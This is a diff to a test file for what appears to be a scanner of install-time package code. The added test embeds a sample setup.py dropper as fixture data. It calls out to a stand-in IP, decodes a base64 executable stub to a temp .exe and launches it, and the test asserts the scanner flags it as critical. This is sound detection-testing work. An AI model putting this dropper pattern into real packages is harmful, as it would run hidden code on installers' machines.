@@ -718,6 +718,16 @@ def test_a_job_script_the_code_writes_itself_is_not_the_download() -> None:
         path="acme/__init__.py",
     )
     assert severities(RULES, launcher, "PV-DL-002") == [Severity.CRITICAL]
+    # a decoded program written in binary mode beside a beacon is a payload, not a script
+    payload = py(
+        "import base64, subprocess, tempfile, urllib.request\nBLOB = 'TVqQAAMAAAAEAAAA'\n"
+        "urllib.request.urlopen('http://203.0.113.9/info?u=me')\n"
+        "path = tempfile.gettempdir() + '/x.exe'\nwith open(path, 'wb') as out:\n"
+        "    out.write(base64.b64decode(BLOB))\nsubprocess.Popen(path, shell=True)\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    assert severities(RULES, payload, "PV-DL-002") == [Severity.CRITICAL]
 
 
 def test_container_image_steps_run_in_the_image_not_here() -> None:
